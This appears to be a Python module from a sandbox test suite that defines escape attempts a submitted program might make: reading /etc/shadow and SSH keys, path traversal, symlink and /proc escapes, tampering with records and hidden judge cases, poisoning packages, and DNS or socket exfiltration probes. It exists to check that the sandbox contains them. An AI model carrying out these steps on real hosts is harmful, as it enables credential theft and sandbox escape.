"""Attacks on what lies outside the sandbox: files of the host, records, network, other machines."""

from __future__ import annotations

import os
from collections.abc import Mapping
from pathlib import Path

from heredity.attacks.contract import Attack, policy
from heredity.resources import SourceTree


def _read(name: str, what: str, act: str) -> Attack:
    return Attack(name, "files", what, policy(act))


def _linked(folder: Path, secret: Path, files: Mapping[str, str]) -> SourceTree:
    SourceTree(files).write_to(folder)
    os.symlink(secret, folder / "weights.bin")
    return SourceTree.from_folder(folder)


def _linked_folder(folder: Path, secret: Path, files: Mapping[str, str]) -> SourceTree:
    SourceTree(files).write_to(folder)
    os.symlink(secret.parent, folder / "data")
    return SourceTree.from_folder(folder)


def _climbing(_folder: Path, secret: Path, files: Mapping[str, str]) -> SourceTree:
    return SourceTree({**files, f"../../../../../../../../{secret.relative_to('/')}": "overwritten"})


def _absolute(_folder: Path, secret: Path, files: Mapping[str, str]) -> SourceTree:
    return SourceTree({**files, str(secret): "overwritten"})


def _contradicting(_folder: Path, _secret: Path, files: Mapping[str, str]) -> SourceTree:
    return SourceTree({**files, "data": "a file", "data/more": "and a folder"})


def _endless(_folder: Path, _secret: Path, files: Mapping[str, str]) -> SourceTree:
    return SourceTree({**files, "x" * 5000: "", "/".join(["d"] * 5000): ""})


def _unwritable(_folder: Path, _secret: Path, files: Mapping[str, str]) -> SourceTree:
    return SourceTree({**files, "\udcff.py": ""})


_DESCRIPTORS = """
for number in [n for n in range(1024) if n > 4]:
    try:
        kind = os.fstat(number)
    except OSError:
        continue
    won("descriptor", number, "is open:", kind)
    fails(os.pread, number, 4096, 0)
"""

_LINKS = """
for name in ("secret", "journal", "sealed"):
    link = os.path.join(os.environ["TMPDIR"], name)
    fails(os.symlink, TARGET[name], link)
    fails(os.link, TARGET[name], link + ".hard")
    fails(read, link)
    fails(read, link + ".hard")
"""

_CLIMB = """
up = "/".join([".."] * 20)
for start in (os.path.dirname(__file__), os.environ["TMPDIR"], np_folder, "/usr/lib", "/proc/self/root", "/dev/fd"):
    fails(read, start + "/" + up + TARGET["secret"])
    fails(os.chdir, start)
    fails(read, up + TARGET["secret"])
for first in ("/proc/self/root", "/proc/1/root", "/proc/self/cwd/" + up, "/dev/fd/3/../../.."):
    fails(read, first + TARGET["secret"])
"""

_CHANGE = """
for name in ("secret", "journal", "sealed", "run"):
    path = TARGET[name]
    fails(lambda: open(path, "a").write("tampered"))
    fails(lambda: os.write(os.open(path, os.O_WRONLY), b"tampered"))
    fails(os.open, path, os.O_RDONLY | os.O_TRUNC)
    fails(os.truncate, path, 0)
    fails(os.rename, path, path + ".gone")
    fails(os.unlink, path)
    fails(os.chmod, path, 0o777)
    fails(os.chown, path, 65534, 65534)
    fails(os.utime, path, (0, 0))
    fails(os.setxattr, path, "user.note", b"tampered")
"""

_CREATE = """
for folder in (TARGET["folder"], TARGET["engine"], TARGET["engine"] + "/programs", TARGET["heredity"], "/tmp", "/dev/shm", "/"):
    made = os.path.join(folder, TARGET["mark"])
    works(os.mkdir, made + ".d")
    works(os.open, made, os.O_CREAT | os.O_WRONLY)
    works(os.mkfifo, made + ".fifo")
"""

FILES = (
    _read("read-shadow", "reads the host's password hashes", "works(read, '/etc/shadow'); works(read, '/etc/passwd')"),
    _read("read-secret", "reads a file of the host by its path", "fails(read, TARGET['secret'])"),
    _read(
        "read-home",
        "reads the home folder of the user who runs the engine",
        "for name in ('', '/.bashrc', '/.profile', '/.ssh/id_rsa', '/.netrc', '/.gitconfig'):\n"
        "    path = TARGET['home'] + name\n"
        "    works(os.listdir if not name else read, path)",
    ),
    _read(
        "list-folders",
        "lists the host's folders",
        "for path in ('/', '/tmp', '/etc', '/proc', '/home', '/root', '/var', '/dev', TARGET['folder'], '..'):\n"
        "    works(os.listdir, path)",
    ),
    _read(
        "read-engine",
        "lists the engine's own folder and its programs",
        "works(os.listdir, TARGET['engine']); works(os.listdir, TARGET['engine'] + '/programs')",
    ),
    _read("read-other-program", "reads the program of another candidate", "fails(read, TARGET['other_program'])"),
    _read(
        "read-heredity",
        "reads the source of heredity",
        "works(read, TARGET['heredity'] + '/_core/errors.py'); works(os.listdir, TARGET['heredity'])",
    ),
    _read("read-sealed-cases", "reads the hidden cases of the judge", "fails(read, TARGET['sealed'])"),
    _read("read-journal", "reads the journal of the run", "fails(read, TARGET['journal'])"),
    _read("read-descriptors", "uses descriptors that the engine left open", _DESCRIPTORS),
    _read(
        "read-devices",
        "opens memory, disks and terminals as devices",
        "for path in ('/dev/mem', '/dev/kmem', '/dev/port', '/dev/kmsg', '/dev/vda', '/dev/sda', '/dev/nvme0n1', '/dev/tty',"
        " '/dev/ptmx', '/dev/fuse', '/dev/kvm', '/dev/nvidia0', '/dev/net/tun', '/dev/loop-control'):\n"
        "    works(os.open, path, os.O_RDWR)\n"
        "    works(os.open, path, os.O_RDONLY)",
    ),
    _read("follow-links", "makes links to secrets in its scratch folder and reads through them", _LINKS),
    Attack(
        "climb-out",
        "files",
        "leaves its folders by dots and by links in /proc",
        policy(_CLIMB, top="import numpy\nnp_folder = os.path.dirname(numpy.__file__)"),
    ),
    _read(
        "open-by-handle",
        "opens a file by its handle, past every path",
        "handle = ctypes.create_string_buffer(struct.pack('<Ii', 128, 0) + bytes(128))\n"
        "mount = ctypes.c_int()\n"
        "wins('name_to_handle_at', -100, TARGET['secret'].encode(), handle, ctypes.byref(mount), 0)\n"
        "wins('open_by_handle_at', -100, handle, 0)",
    ),
    _read(
        "write-records",
        "appends to, truncates, renames, deletes and restamps the journal, the run and the hidden cases",
        _CHANGE,
    ),
    _read("create-files", "creates files outside its scratch folder", _CREATE),
    _read(
        "write-own-program",
        "rewrites the snapshot it was started from",
        "works(open, __file__, 'a'); works(os.unlink, __file__); works(os.rename, __file__, __file__ + 'x')\n"
        "works(os.mkdir, os.path.dirname(__file__) + '/__pycache__')",
    ),
    _read(
        "poison-packages",
        "rewrites a package that later policies import",
        "import numpy\n"
        "works(open, numpy.__file__, 'a'); works(open, os.__file__, 'a')\n"
        "works(os.mkdir, os.path.dirname(numpy.__file__) + '/hook')\n"
        "works(os.symlink, os.path.dirname(__file__), TARGET['engine'] + '/packages/scipy2')",
    ),
    _read(
        "make-devices",
        "makes device nodes in its scratch folder",
        "node = (os.environ['TMPDIR'] + '/disk').encode()\n"
        "wins('mknodat', -100, node, 0o060666, (254 << 8) | 0); wins('mknod', node + b'2', 0o020666, (1 << 8) | 1)",
    ),
    Attack(
        "link-in-program",
        "files",
        "submits a folder with a link to a secret in it",
        policy("fails(read, os.path.join(os.path.dirname(__file__), 'weights.bin'))"),
        submit=_linked,
    ),
    Attack(
        "link-to-folder",
        "files",
        "submits a folder with a link to a folder of secrets in it",
        policy(
            "here = os.path.join(os.path.dirname(__file__), 'data')\n"
            "for name in fails(os.listdir, here) or ():\n    fails(read, os.path.join(here, name))"
        ),
        submit=_linked_folder,
    ),
    Attack(
        "climbing-path", "files", "submits a file whose path leaves the program's folder", policy(), submit=_climbing
    ),
    Attack("absolute-path", "files", "submits a file with an absolute path", policy(), submit=_absolute),
    Attack("file-and-folder", "files", "submits a path that is a file and a folder", policy(), submit=_contradicting),
    Attack("endless-path", "files", "submits paths longer than a disk can hold", policy(), submit=_endless),
    Attack("path-without-text", "files", "submits a path that is not valid text", policy(), submit=_unwritable),
)


_TOP = "import socket"


def _network(name: str, what: str, act: str) -> Attack:
    return Attack(name, "network", what, policy(act, top=_TOP))


NETWORK = (
    _network(
        "tcp",
        "connects to a port of the host",
        "for host in ('127.0.0.1', '0.0.0.0', 'localhost', '::1'):\n    works(socket.create_connection, (host, TARGET['tcp_port']), 1)",
    ),
    _network(
        "udp",
        "sends a datagram to the host",
        "fails(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', TARGET['udp_port'])))",
    ),
    _network(
        "unix-socket",
        "connects to a Unix socket of the host, such as the session's or Docker's",
        "for path in (TARGET['unix_path'], '/var/run/docker.sock', '/run/systemd/private', '/run/dbus/system_bus_socket'):\n"
        "    fails(lambda: socket.socket(socket.AF_UNIX).connect(path))\n    fails(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', path))",
    ),
    _network(
        "abstract-socket",
        "connects to a Unix socket without a path",
        "fails(lambda: socket.socket(socket.AF_UNIX).connect(chr(0) + TARGET['abstract']))",
    ),
    _network(
        "listen",
        "waits for connections from outside",
        "def listen():\n    server = socket.socket(); server.bind(('0.0.0.0', 0)); server.listen()\n    return server\nworks(listen)",
    ),
    _network(
        "every-socket-family",
        "makes a socket of each family and type",
        "for family in range(1, 46):\n    for kind in (1, 2, 3, 5):\n        number = call('socket', family, kind, 0)\n"
        "        if number >= 0:\n            won('socket', family, kind)\n            os.close(number)",
    ),
    _network("socket-pair", "makes a pair of sockets, over which descriptors travel", "works(socket.socketpair)"),
    _network(
        "socket-calls",
        "uses the pipes and whatever else is open as sockets",
        "for number in range(64):\n    wins('sendto', number, b'x', 1, 0, 0, 0); wins('recvfrom', number, bytes(8), 8, 0x40, 0, 0)\n"
        "    wins('getsockname', number, bytes(128), struct.pack('<I', 128))",
    ),
    _network(
        "name-lookup",
        "sends out data in the names that it looks up",
        "works(socket.getaddrinfo, 'data.example.com', 80); works(socket.gethostbyname, 'localhost')",
    ),
    _network(
        "fetch",
        "fetches a page and posts to a server",
        "import urllib.request\nworks(urllib.request.urlopen, f\"http://127.0.0.1:{TARGET['tcp_port']}/\", b'data', 1)",
    ),
)
